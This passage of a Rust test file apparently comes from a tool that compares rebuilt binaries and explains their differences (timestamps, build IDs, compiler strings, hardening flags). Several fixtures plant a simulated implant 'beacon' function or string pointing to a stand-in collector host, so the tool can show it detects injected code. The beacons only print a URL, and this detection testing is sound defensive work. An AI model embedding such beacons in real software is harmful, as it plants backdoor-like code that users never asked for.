    .expect("w");
    let b = go_build(dir.path(), "b", &[]);
    let (exit, v) = json_diff(&a, &b);
    assert_eq!(exit, 1);
    let explained = explanations(&v);
    assert_eq!(
        explained[0],
        "Go build setting vcs.modified: false -> true (B was built from a modified source tree)",
        "{explained:?}"
    );
}

const GO_HELLO: &str = "package main\n\nimport \"fmt\"\n\n\
    func main() { fmt.Println(\"hello\") }\n";

/// [`GO_HELLO`] with one more function, called from `main`.
const GO_HELLO_BEACON: &str = "package main\n\nimport \"fmt\"\n\n\
    //go:noinline\nfunc beacon() string { return \"https://collector.evil.test/b\" }\n\n\
    func main() { fmt.Println(\"hello\", beacon()) }\n";

fn function_names(list: &Value) -> Vec<&str> {
    list.as_array()
        .expect("function list")
        .iter()
        .map(|f| f["name"].as_str().expect("name"))
        .collect()
}

#[test]
fn planted_go_function_is_named_only_in_b_even_when_stripped() {
    require_tool("go");
    let dir = TempDir::new().expect("tempdir");
    for (tag, flags) in [
        ("plain", &["-trimpath"][..]),
        ("stripped", &["-trimpath", "-ldflags=-s -w"][..]),
    ] {
        let a = go_build_program(dir.path(), &format!("a-{tag}"), GO_HELLO, flags);
        let b = go_build_program(dir.path(), &format!("b-{tag}"), GO_HELLO_BEACON, flags);
        let (code, v) = json_diff(&a, &b);
        assert_eq!(code, 1);
        let functions = &v["functions"];
        assert_eq!(functions["a_source"], "gopclntab", "{tag}");
        assert_eq!(
            function_names(&functions["only_b"]),
            vec!["main.beacon"],
            "{tag}"
        );
        assert_eq!(functions["only_b_total"], 1, "{tag}");
        assert_eq!(
            function_names(&functions["only_a"]),
            Vec::<&str>::new(),
            "{tag}"
        );
        assert_eq!(
            function_names(&functions["changed"]),
            vec!["main.main"],
            "{tag}"
        );
        assert!(
            functions["compared"].as_u64().expect("compared") > 500,
            "{tag}"
        );
        let explained = explanations(&v);
        assert_eq!(
            explained[0], "1 function only in B (new code): main.beacon",
            "{tag}: {explained:?}"
        );
        let (_, text) = run_diff(&a, &b, &[]);
        let block = text.split("\nFunctions (").nth(1).expect("functions block");
        assert!(
            block.contains("functions only in B (new):\n  main.beacon ("),
            "{tag}: {text}"
        );
        assert!(
            block.contains("functions that changed size:\n  main.main ("),
            "{text}"
        );
    }
}

#[test]
fn planted_c_function_is_named_from_the_symbol_table() {
    require_tool("cc");
    let dir = TempDir::new().expect("tempdir");
    let a = cc(
        dir.path(),
        "a",
        "#include <stdio.h>\nint main(void) { puts(\"hello\"); return 0; }\n",
        &["-O0"],
    );
    let b = cc(
        dir.path(),
        "b",
        "#include <stdio.h>\n__attribute__((noinline)) void beacon(void) { puts(\"x\"); }\n\
         int main(void) { beacon(); puts(\"hello\"); return 0; }\n",
        &["-O0"],
    );
    let (code, v) = json_diff(&a, &b);
    assert_eq!(code, 1);
    let functions = &v["functions"];
    assert_eq!(functions["a_source"], "symbols");
    assert_eq!(function_names(&functions["only_b"]), vec!["beacon"]);
    assert_eq!(function_names(&functions["only_a"]), Vec::<&str>::new());
    assert_eq!(function_names(&functions["changed"]), vec!["main"]);
    assert_eq!(
        explanations(&v)[0],
        "1 function only in B (new code): beacon"
    );
}

#[test]
fn stripped_c_binary_has_its_functions_left_uncompared_with_a_note() {
    require_tool("cc");
    let dir = TempDir::new().expect("tempdir");
    let a = cc(dir.path(), "a", HELLO_C, &["-s"]);
    let b = cc(dir.path(), "b", HELLO_C, &[]);
    let (_, v) = json_diff(&a, &b);
    let functions = &v["functions"];
    assert_eq!(functions["b_source"], "symbols");
    assert_eq!(functions["compared"], 0);
    assert_eq!(functions["only_b_total"], 0);
    assert!(
        functions["note"]
            .as_str()
            .expect("note")
            .starts_with("functions not compared: A has "),
        "{functions}"
    );
}

/// A Go program that may print `extra` (a string constant Go packs
/// without separators among its others).
fn go_program(extra: Option<&str>) -> String {
    let planted = extra.map_or(String::new(), |s| {
        format!("\tif len(version) > 100 {{\n\t\tfmt.Println({s:?})\n\t}}\n")
    });
    format!(
        "package main\n\nimport \"fmt\"\n\nvar version = \"dev\"\nvar date = \"unknown\"\n\n\
         func main() {{\n\tfmt.Println(\"hello\", version, date)\n{planted}}}\n"
    )
}

#[test]
fn string_planted_in_a_go_binary_is_shown_whole_and_alone() {
    require_tool("go");
    let planted = "beacon: https://collector.evil.test/implant";
    let (dir_a, dir_b) = (
        TempDir::new().expect("tempdir"),
        TempDir::new().expect("tempdir"),
    );
    let a = go_build_source(dir_a.path(), "a", &go_program(None), &["-trimpath"]);
    let b = go_build_source(
        dir_b.path(),
        "b",
        &go_program(Some(planted)),
        &["-trimpath"],
    );
    let (code, v) = json_diff(&a, &b);
    assert_eq!(code, 1);
    assert_eq!(v["strings"]["only_a"], serde_json::json!([]));
    assert_eq!(v["strings"]["only_b"], serde_json::json!([planted]));
    assert_eq!(v["strings"]["only_b_total"], 1);
    let explained = explanations(&v);
    assert!(
        explained.contains(&format!("strings only in B: {planted:?}")),
        "{explained:?}"
    );
    assert!(!explained.iter().any(|e| e.contains("strings only in A")));
}

#[test]
fn build_time_stamp_against_commit_time_is_explained_as_a_timestamp() {
    require_tool("go");
    let dir = TempDir::new().expect("tempdir");
    let stamp = |name, date: &str| {
        go_build_source(
            dir.path(),
            name,
            &go_program(None),
            &["-trimpath", &format!("-ldflags=-X main.date={date}")],
        )
    };
    let a = stamp("a", "2025-03-11T19:58:53Z");
    let b = stamp("b", "2025-03-11T19:52:20Z");
    let options = rebuild_compare::diff::DiffOptions {
        source_date_epoch: Some(1_741_722_740),
        ..Default::default()
    };
    let diff = rebuild_compare::diff::diff_files(&a, &b, &options).expect("diff");
    let v = serde_json::to_value(&diff).expect("json");
    assert_eq!(
        v["strings"]["timestamps"],
        serde_json::json!([{
            "kind": "rfc3339",
            "a": "2025-03-11T19:58:53Z",
            "b": "2025-03-11T19:52:20Z",
            "a_unix": 1_741_723_133,
            "b_unix": 1_741_722_740,
            "a_is_source_date_epoch": false,
            "b_is_source_date_epoch": true,
        }])
    );
    let sentence = diff
        .explanations
        .iter()
        .find(|e| e.starts_with("date stamps differ"))
        .unwrap_or_else(|| panic!("no timestamp sentence in {:?}", diff.explanations));
    assert_eq!(
        sentence,
        "date stamps differ: B's 2025-03-11T19:52:20Z equals SOURCE_DATE_EPOCH (the commit \
         time); A's 2025-03-11T19:58:53Z is 6m33s later: the release build stamped its build \
         time; supply it as a release input: [inputs.build_date] from_binary = \
         '(20\\d\\d-[01]\\d-[0-3]\\dT[0-2]\\d:[0-5]\\d:[0-5]\\dZ)' and source_date_epoch = \
         \"{input:build_date}\" (recipes/README.md#release-inputs)"
    );
    // Without SOURCE_DATE_EPOCH (the `diff` command) they are still stamps.
    let (_, v) = json_diff(&a, &b);
    assert_eq!(
        v["strings"]["timestamps"][0]["b_is_source_date_epoch"],
        false
    );
    assert!(explanations(&v).iter().any(|e| e.starts_with(
        "date stamps differ: A has 2025-03-11T19:58:53Z, B has \
             2025-03-11T19:52:20Z (A's is 6m33s later): a build time is embedded"
    )));
}

/// Runs `program args...` in `dir`; the test fails if it does.
fn run_tool(dir: &Path, program: &str, args: &[&str]) {
    require_tool(program);
    let status = Command::new(program)
        .args(args)
        .current_dir(dir)
        .status()
        .unwrap_or_else(|e| panic!("run {program}: {e}"));
    assert!(status.success(), "{program} {args:?} failed");
}

/// [`HELLO_C`] built with `-g` and build ID `build_id` into `dir/name`,
/// its debug information split into `dir/name.dbg/DEBUG_NAME` (the file
/// Debian names `<build ID without its first byte>.debug`) and linked
/// from the binary by `.gnu_debuglink`, as dh_strip does.
fn split_debug(dir: &Path, name: &str, build_id: &str, debug_name: &str) -> PathBuf {
    require_tool("cc");
    let binary = cc(
        dir,
        name,
        HELLO_C,
        &["-g", &format!("-Wl,--build-id=0x{build_id}")],
    );
    let debug_dir = dir.join(format!("{name}.dbg"));
    std::fs::create_dir_all(&debug_dir).expect("mkdir");
    let debug = debug_dir.join(debug_name);
    let (binary_arg, debug_arg) = (
        binary.to_str().expect("path"),
        debug.to_str().expect("path"),
    );
    run_tool(
        dir,
        "objcopy",
        &["--only-keep-debug", binary_arg, debug_arg],
    );
    run_tool(dir, "objcopy", &["--strip-debug", binary_arg]);
    run_tool(
        dir,
        "objcopy",
        &[&format!("--add-gnu-debuglink={debug_arg}"), binary_arg],
    );
    binary
}

/// The names of the sections that are not the same on both sides.
fn differing_sections(v: &Value) -> Vec<&str> {
    v["sections"]
        .as_array()
        .expect("sections")
        .iter()
        .filter(|s| s["status"] != "same")
        .map(|s| s["name"].as_str().expect("name"))
        .collect()
}

fn causes_of(v: &Value) -> Vec<&str> {
    v["causes"]
        .as_array()
        .expect("causes")
        .iter()
        .map(|c| c.as_str().expect("cause"))
        .collect()
}

const BUILD_ID_A: &str = "11223344aabbccdd";
const BUILD_ID_B: &str = "55667788eeff0011";

#[test]
fn a_build_id_and_the_debuglink_named_after_it_are_build_id_only() {
    let dir = TempDir::new().expect("tempdir");
    let a = split_debug(dir.path(), "a", BUILD_ID_A, "223344aabbccdd.debug");
    let b = split_debug(dir.path(), "b", BUILD_ID_B, "667788eeff0011.debug");
    let (code, v) = json_diff(&a, &b);
    assert_eq!(code, 1);
    assert_eq!(
        differing_sections(&v),
        vec![".note.gnu.build-id", ".gnu_debuglink"]
    );
    assert_eq!(
        v["build_id"]["a"]["gnu_debuglink"]["name"],
        "223344aabbccdd.debug"
    );
    assert_eq!(
        v["build_id"]["b"]["gnu_debuglink"]["name"],
        "667788eeff0011.debug"
    );
    // The debug files hold the build IDs, so their CRCs differ too.
    assert_ne!(
        v["build_id"]["a"]["gnu_debuglink"]["crc"],
        v["build_id"]["b"]["gnu_debuglink"]["crc"]
    );
    assert_eq!(causes_of(&v), vec!["build-id-only"]);
    let explained = explanations(&v);
    assert_eq!(
        explained[0],
        "only the build ID differs (GNU build-id 11223344aabbccdd vs 55667788eeff0011), \
         and the .gnu_debuglink name and CRC derived from it (the separate debug file is \
         named after the build ID, and its CRC differs as that file does): code and data \
         are identical"
    );
    // Then only the sections summary (the CRCs' bytes differ by chance).
    assert_eq!(explained.len(), 2, "{explained:?}");
    assert!(
        explained[1].contains(" sections differ: .note.gnu.build-id (8 bytes), .gnu_debuglink ("),
        "{explained:?}"
    );
}

#[test]
fn a_debuglink_not_named_after_its_own_build_id_is_not_build_id_only() {
    let dir = TempDir::new().expect("tempdir");
    let a = split_debug(dir.path(), "a", BUILD_ID_A, "223344aabbccdd.debug");
    // B's debug file is named after A's build ID, not its own.
    let b = split_debug(dir.path(), "b", BUILD_ID_B, "223344aabbccdd.debug");
    let (code, v) = json_diff(&a, &b);
    assert_eq!(code, 1);
    assert_eq!(
        differing_sections(&v),
        vec![".note.gnu.build-id", ".gnu_debuglink"]
    );
    assert_eq!(causes_of(&v), vec!["debug-info", "build-id-consequence"]);
    assert!(
        !explanations(&v)
            .iter()
            .any(|e| e.starts_with("only the build ID differs")),
        "{:?}",
        explanations(&v)
    );
}

/// `binary` with its `.comment` replaced by `compilers`, NUL-terminated,
/// as `dir/name`.
fn with_comment(dir: &Path, binary: &Path, name: &str, compilers: &[&str]) -> PathBuf {
    let comment = dir.join(format!("{name}.comment"));
    let text: String = compilers.iter().map(|c| format!("{c}\0")).collect();
    std::fs::write(&comment, text).expect("write .comment");
    let out = dir.join(name);
    run_tool(
        dir,
        "objcopy",
        &[
            &format!("--update-section=.comment={}", comment.display()),
            binary.to_str().expect("path"),
            out.to_str().expect("path"),
        ],
    );
    out
}

#[test]
fn another_compiler_release_in_the_comment_section_is_toolchain_naming_both() {
    require_tool("cc");
    let dir = TempDir::new().expect("tempdir");
    let built = cc(dir.path(), "built", HELLO_C, &["-O2"]);
    let gcc = "GCC: (Debian 12.2.0-14) 12.2.0";
    let a = with_comment(dir.path(), &built, "a", &[gcc]);
    let newer = "GCC: (Debian 12.2.0-14+deb12u1) 12.2.0";
    let b = with_comment(dir.path(), &built, "b", &[newer]);
    let (_, v) = json_diff(&a, &b);
    assert_eq!(causes_of(&v), vec!["toolchain"]);
    assert_eq!(
        v["cause_evidence"],
        serde_json::json!([{"cause": "toolchain", "strings": 1, "functions": 0,
                            "examples": ["12.2.0-14+deb12u1)"]}])
    );
    assert_eq!(
        explanations(&v)[0],
        "toolchain differs: GCC: (Debian 12.2.0-14) 12.2.0 vs \
         GCC: (Debian 12.2.0-14+deb12u1) 12.2.0"
    );

    // Another compiler altogether: clang's string.
    let clang = with_comment(
        dir.path(),
        &built,
        "clang",
        &["Debian clang version 14.0.6"],
    );
    let (_, v) = json_diff(&a, &clang);
    assert_eq!(causes_of(&v), vec!["toolchain"]);
    assert_eq!(
        explanations(&v)[0],
        "toolchain differs: GCC: (Debian 12.2.0-14) 12.2.0 vs Debian clang version 14.0.6"
    );

    // The new release beside the old one, which the C library's start
    // files were built with.
    let beside = with_comment(dir.path(), &built, "beside", &[gcc, newer]);
    let (_, v) = json_diff(&a, &beside);
    assert_eq!(causes_of(&v), vec!["toolchain"]);
    assert_eq!(v["cause_evidence"][0]["strings"], 1);
    assert_eq!(
        explanations(&v)[0],
        "toolchain differs: B also names GCC: (Debian 12.2.0-14+deb12u1) 12.2.0 \
         (both name GCC: (Debian 12.2.0-14) 12.2.0)"
    );
}

/// A program whose `printf`, `fprintf` and stack buffer the compiler
/// hardens when asked to.
const HARDENED_C: &str = "#include <stdio.h>\n#include <string.h>\n\
    int main(int argc, char **argv) { char buf[16]; strcpy(buf, \"x\");\n\
    memcpy(buf + 1, argv[0], (size_t)argc % 8); buf[9] = 0;\n\
    printf(\"hello %s %d\\n\", buf, argc); fprintf(stderr, \"n=%d\\n\", argc); return 0; }\n";

#[test]
fn fortify_source_in_one_build_only_is_build_settings_naming_the_checked_functions() {
    require_tool("cc");
    let dir = TempDir::new().expect("tempdir");
    let fortified = ["-O2", "-D_FORTIFY_SOURCE=2", "-fno-stack-protector"];
    let plain = ["-O2", "-U_FORTIFY_SOURCE", "-fno-stack-protector"];
    let a = cc(dir.path(), "a", HARDENED_C, &fortified);
    let b = cc(dir.path(), "b", HARDENED_C, &plain);
    let (_, v) = json_diff(&a, &b);
    assert_eq!(
        causes_of(&v),
        vec!["build-settings", "build-id-consequence"]
    );
    assert_eq!(
        v["hardening"],
        serde_json::json!({
            "only_a": [{"name": "__fprintf_chk", "version": "GLIBC_2.3.4"},
                       {"name": "__printf_chk", "version": "GLIBC_2.3.4"}],
            "only_b": [],
            "unchecked_only_a": [],
            "unchecked_only_b": ["fprintf", "printf"],
        })
    );
    // The checked functions, their symbol version and the code they change.
    assert_eq!(
        v["cause_evidence"][0],
        serde_json::json!({"cause": "build-settings", "strings": 3, "functions": 1,
            "examples": ["__printf_chk", "__fprintf_chk", "GLIBC_2.3.4", "main"],
            "note": "1 function added, removed or changed: not compared one by one, \
                     as build settings differ, which changes code"})
    );
    assert_eq!(
        explanations(&v)[0],
        "A calls __fprintf_chk, __printf_chk; B does not: -D_FORTIFY_SOURCE differs"
    );

    // Stripped, as distribution packages are: no functions to compare.
    let (a, b) = (
        cc(
            dir.path(),
            "a-stripped",
            HARDENED_C,
            &[&fortified[..], &["-s"]].concat(),
        ),
        cc(
            dir.path(),
            "b-stripped",
            HARDENED_C,
            &[&plain[..], &["-s"]].concat(),
        ),
    );
    let (_, v) = json_diff(&b, &a);
    assert_eq!(
        causes_of(&v),
        vec!["build-settings", "build-id-consequence"]
    );
    assert_eq!(
        explanations(&v)[0],
        "B calls __fprintf_chk, __printf_chk; A does not: -D_FORTIFY_SOURCE differs"
    );
}

#[test]
fn a_stack_protector_in_one_build_only_is_build_settings() {
    require_tool("cc");
    let dir = TempDir::new().expect("tempdir");
    let a = cc(
        dir.path(),
        "a",
        HARDENED_C,
        &["-O2", "-U_FORTIFY_SOURCE", "-fstack-protector-strong"],
    );
    let b = cc(
        dir.path(),
        "b",
        HARDENED_C,
        &["-O2", "-U_FORTIFY_SOURCE", "-fno-stack-protector"],
    );
    let (_, v) = json_diff(&a, &b);
    assert_eq!(
        causes_of(&v),
        vec!["build-settings", "build-id-consequence"]
    );
    assert_eq!(
        explanations(&v)[0],
        "A calls __stack_chk_fail; B does not: -fstack-protector differs"
    );
    assert_eq!(
        v["cause_evidence"][0]["examples"],
        serde_json::json!(["__stack_chk_fail", "GLIBC_2.4", "main"])
    );
}
